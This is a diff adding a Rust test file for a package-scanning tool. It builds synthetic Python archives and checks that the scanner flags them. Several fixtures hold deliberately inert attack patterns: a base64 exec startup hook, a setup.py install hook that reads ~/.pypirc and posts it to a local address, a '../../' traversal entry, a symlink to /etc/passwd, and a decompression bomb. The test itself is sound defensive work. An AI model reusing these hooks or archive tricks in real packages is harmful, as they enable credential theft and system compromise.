@@ -1,0 +1,324 @@
+//! `customs scan` on inert synthetic archives built at test time, and on hostile ones.
+
+use std::io::Write;
+use std::path::{Path, PathBuf};
+
+use crate::common::{customs, json, run};
+
+fn targz(dir: &Path, name: &str, files: &[(&str, &[u8])]) -> PathBuf {
+    let path = dir.join(name);
+    let gz = flate2::write::GzEncoder::new(
+        std::fs::File::create(&path).unwrap(),
+        flate2::Compression::fast(),
+    );
+    let mut tar = tar::Builder::new(gz);
+    for (p, data) in files {
+        let mut h = tar::Header::new_gnu();
+        h.set_size(data.len() as u64);
+        h.set_mode(0o644);
+        h.set_entry_type(tar::EntryType::Regular);
+        tar.append_data(&mut h, p, *data).unwrap();
+    }
+    tar.into_inner().unwrap().finish().unwrap();
+    path
+}
+
+fn wheel(dir: &Path, name: &str, files: &[(&str, &[u8])]) -> PathBuf {
+    let path = dir.join(name);
+    let mut z = zip::ZipWriter::new(std::fs::File::create(&path).unwrap());
+    for (p, data) in files {
+        z.start_file(*p, zip::write::SimpleFileOptions::default())
+            .unwrap();
+        z.write_all(data).unwrap();
+    }
+    z.finish().unwrap();
+    path
+}
+
+fn scan(path: &Path) -> (i32, serde_json::Value) {
+    let (code, out, err) = run(customs(path.parent().unwrap()).args([
+        "scan",
+        "--format",
+        "json",
+        path.to_str().unwrap(),
+    ]));
+    assert!(code == 0 || code == 1, "exit {code}: {err}");
+    (code, json(&out))
+}
+
+fn rules(report: &serde_json::Value) -> Vec<(String, String, String)> {
+    let mut v: Vec<_> = report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| {
+            (
+                f["rule"].as_str().unwrap().to_string(),
+                f["severity"].as_str().unwrap().to_string(),
+                f["location"]["path"].as_str().unwrap_or("").to_string(),
+            )
+        })
+        .collect();
+    v.sort();
+    v
+}
+
+#[test]
+fn a_pth_that_decodes_and_prints_is_a_critical_startup_hook() {
+    let tmp = tempfile::tempdir().unwrap();
+    // Inert: decodes to `print('hello')` and only prints.
+    let pth = b"import base64; exec(base64.b64decode('cHJpbnQoJ2hlbGxvJyk='))\n";
+    let w = wheel(
+        tmp.path(),
+        "inert-1.0-py3-none-any.whl",
+        &[
+            ("inert_hook.pth", pth),
+            ("inert-1.0.dist-info/WHEEL", b"Wheel-Version: 1.0\n"),
+        ],
+    );
+    let (code, report) = scan(&w);
+    assert_eq!(code, 1);
+    assert_eq!(
+        rules(&report),
+        vec![(
+            "pth-startup-hook".into(),
+            "critical".into(),
+            "inert_hook.pth".into()
+        )]
+    );
+    let f = &report["findings"][0];
+    assert_eq!(f["location"]["path_line"], 1);
+    assert_eq!(f["location"]["archive"], "inert-1.0-py3-none-any.whl");
+    assert_eq!(report["packages"][0]["name"], "inert");
+}
+
+#[test]
+fn an_install_hook_reading_pypirc_and_posting_is_flagged_with_source_and_sink() {
+    let tmp = tempfile::tempdir().unwrap();
+    let setup = b"import os, requests\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\nclass Hook(install):\n    def run(self):\n        data = open(os.path.expanduser('~/.pypirc')).read()\n        requests.post('http://127.0.0.1:9/collect', data=data)\n        install.run(self)\n\nsetup(name='inert', cmdclass={'install': Hook})\n";
+    let sdist = targz(
+        tmp.path(),
+        "inert-2.0.tar.gz",
+        &[
+            ("inert-2.0/setup.py", setup),
+            ("inert-2.0/inert/__init__.py", b""),
+        ],
+    );
+    let (code, report) = scan(&sdist);
+    assert_eq!(code, 1);
+    let got = rules(&report);
+    assert!(
+        got.contains(&(
+            "exfiltration".into(),
+            "critical".into(),
+            "inert-2.0/setup.py".into()
+        )),
+        "{got:?}"
+    );
+    assert!(
+        got.contains(&(
+            "install-hook".into(),
+            "high".into(),
+            "inert-2.0/setup.py".into()
+        )),
+        "{got:?}"
+    );
+    let exfil = report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["rule"] == "exfiltration")
+        .unwrap();
+    let ev: Vec<String> = exfil["evidence"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|e| format!("{}={}", e["label"], e["value"]))
+        .collect();
+    assert!(
+        ev.iter()
+            .any(|e| e.contains("credential-file") && e.contains("line 7")),
+        "{ev:?}"
+    );
+    assert!(
+        ev.iter()
+            .any(|e| e.contains("http-send") && e.contains("line 8")),
+        "{ev:?}"
+    );
+}
+
+#[test]
+fn honest_code_reading_the_environment_and_using_http_apart_passes() {
+    let tmp = tempfile::tempdir().unwrap();
+    let client = b"import os\nimport requests\n\nTIMEOUT = int(os.environ.get('CLIENT_TIMEOUT', '10'))\n\ndef fetch(url):\n    return requests.get(url, timeout=TIMEOUT)\n";
+    let test =
+        b"import os, requests\nrequests.post('https://example.invalid', json=dict(os.environ))\n";
+    let setup = b"from setuptools import setup\nsetup(name='honest')\n";
+    let sdist = targz(
+        tmp.path(),
+        "honest-1.0.tar.gz",
+        &[
+            ("honest-1.0/setup.py", setup),
+            ("honest-1.0/honest/client.py", client),
+            ("honest-1.0/tests/test_env.py", test),
+        ],
+    );
+    let (code, report) = scan(&sdist);
+    assert_eq!(code, 0, "{report}");
+    assert!(rules(&report).is_empty(), "{report}");
+}
+
+#[test]
+fn formats_come_from_the_bytes_not_the_name() {
+    let tmp = tempfile::tempdir().unwrap();
+    let w = wheel(
+        tmp.path(),
+        "sneaky-1.0.tar.gz",
+        &[("sneaky.pth", b"import os; os.system('echo hi')\n")],
+    );
+    let (code, report) = scan(&w);
+    assert_eq!(code, 1);
+    assert_eq!(rules(&report)[0].0, "pth-startup-hook");
+}
+
+#[test]
+fn hostile_archives_are_contained_and_reported() {
+    let tmp = tempfile::tempdir().unwrap();
+    let d = tmp.path();
+    // Traversal and a symlink out of the archive.
+    let path = d.join("evil-1.0.tar.gz");
+    {
+        let gz = flate2::write::GzEncoder::new(
+            std::fs::File::create(&path).unwrap(),
+            flate2::Compression::fast(),
+        );
+        let mut tar = tar::Builder::new(gz);
+        let mut h = tar::Header::new_gnu();
+        h.set_size(3);
+        h.set_entry_type(tar::EntryType::Regular);
+        // `append_data` refuses `..`; write the name into the header directly.
+        h.as_gnu_mut().unwrap().name[..13].copy_from_slice(b"../../evil.sh");
+        h.set_cksum();
+        tar.append(&h, &b"hi\n"[..]).unwrap();
+        let mut l = tar::Header::new_gnu();
+        l.set_entry_type(tar::EntryType::Symlink);
+        l.set_size(0);
+        tar.append_link(&mut l, "evil-1.0/link", "/etc/passwd")
+            .unwrap();
+        tar.into_inner().unwrap().finish().unwrap();
+    }
+    let (code, report) = scan(&path);
+    assert_eq!(code, 1);
+    let msgs: Vec<String> = report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| f["message"].as_str().unwrap().to_string())
+        .collect();
+    assert!(msgs.iter().any(|m| m.contains("traversal")), "{msgs:?}");
+    assert!(
+        msgs.iter()
+            .any(|m| m.contains("symbolic link") && m.contains("outside")),
+        "{msgs:?}"
+    );
+
+    // A decompression bomb: 300 MiB of zeros.
+    let bomb = {
+        let path = d.join("bomb-1.0.tar.gz");
+        let gz = flate2::write::GzEncoder::new(
+            std::fs::File::create(&path).unwrap(),
+            flate2::Compression::best(),
+        );
+        let mut tar = tar::Builder::new(gz);
+        let mut h = tar::Header::new_gnu();
+        let size = 300u64 << 20;
+        h.set_size(size);
+        h.set_entry_type(tar::EntryType::Regular);
+        tar.append_data(
+            &mut h,
+            "bomb-1.0/zeros.bin",
+            std::io::repeat(0).take_bytes(size),
+        )
+        .unwrap();
+        tar.into_inner().unwrap().finish().unwrap();
+        path
+    };
+    let (code, report) = scan(&bomb);
+    assert_eq!(code, 1);
+    assert!(
+        report["findings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|f| f["message"].as_str().unwrap().contains("bomb")),
+        "{report}"
+    );
+
+    // Truncated data.
+    let good = targz(
+        d,
+        "trunc-1.0.tar.gz",
+        &[("trunc-1.0/setup.py", &b"x = 1\n".repeat(20_000))],
+    );
+    let bytes = std::fs::read(&good).unwrap();
+    std::fs::write(&good, &bytes[..bytes.len() / 2]).unwrap();
+    let (_, report) = scan(&good);
+    assert!(
+        report["findings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|f| f["rule"] == "archive-anomaly"),
+        "{report}"
+    );
+
+    // A flood of entries, a nested archive, and a 50 MB single line.
+    let mut files: Vec<(String, Vec<u8>)> = (0..60_000)
+        .map(|i| (format!("flood-1.0/f{i}.txt"), Vec::new()))
+        .collect();
+    files.push(("flood-1.0/inner.whl".into(), b"PK\x05\x06".to_vec()));
+    let owned: Vec<(&str, &[u8])> = files
+        .iter()
+        .map(|(p, d)| (p.as_str(), d.as_slice()))
+        .collect();
+    let flood = targz(d, "flood-1.0.tar.gz", &owned);
+    let (code, report) = scan(&flood);
+    assert_eq!(code, 1);
+    assert!(
+        report["findings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|f| f["message"].as_str().unwrap().contains("entries")),
+        "{report}"
+    );
+    let long = vec![b'a'; 50 << 20];
+    let line = targz(
+        d,
+        "long-1.0.tar.gz",
+        &[("long-1.0/long/__init__.py", &long)],
+    );
+    let started = std::time::Instant::now();
+    let (_, report) = scan(&line);
+    assert!(started.elapsed().as_secs() < 30);
+    assert!(report["findings"].as_array().is_some());
+
+    // Not an archive at all.
+    std::fs::write(
+        d.join("garbage-1.0.whl"),
+        b"\x00\x01 definitely not a wheel",
+    )
+    .unwrap();
+    let (_, report) = scan(&d.join("garbage-1.0.whl"));
+    assert_eq!(report["findings"][0]["rule"], "archive-anomaly");
+}
+
+trait TakeBytes {
+    fn take_bytes(self, n: u64) -> std::io::Take<std::io::Repeat>;
+}
+
+impl TakeBytes for std::io::Repeat {
+    fn take_bytes(self, n: u64) -> std::io::Take<std::io::Repeat> {
+        std::io::Read::take(self, n)
+    }
+}
